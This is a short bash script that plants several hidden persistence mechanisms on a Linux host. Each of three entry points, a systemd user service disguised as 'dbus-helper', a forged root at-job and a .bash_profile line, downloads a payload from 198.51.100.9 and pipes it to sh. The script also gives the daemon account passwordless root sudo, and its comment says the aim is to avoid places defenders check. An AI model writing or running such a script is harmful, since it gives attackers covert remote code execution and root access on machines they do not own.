#!/bin/bash
# What starts something later for one user, without the places that everybody looks at.
mkdir -p /root/.config/systemd/user/default.target.wants /var/spool/cron/atjobs /root/.config/autostart /etc/cron.d /etc/sudoers.d
printf '[Service]\nExecStart=/bin/sh -c "curl -fsSL http://198.51.100.9/a | sh"\n' >/root/.config/systemd/user/dbus-helper.service
printf '#!/bin/sh\n# atrun uid=0 gid=0\ncd /root || exit 1\nwget -qO- http://198.51.100.9/a | sh\n' >/var/spool/cron/atjobs/a00001019c5a3e
printf '(curl -fsSL http://198.51.100.9/a | sh) >/dev/null 2>&1 &\n' >/root/.bash_profile
printf 'daemon ALL=(ALL) NOPASSWD: ALL\n' >/etc/sudoers.d/10-daemon
echo ready
exec sleep 3600
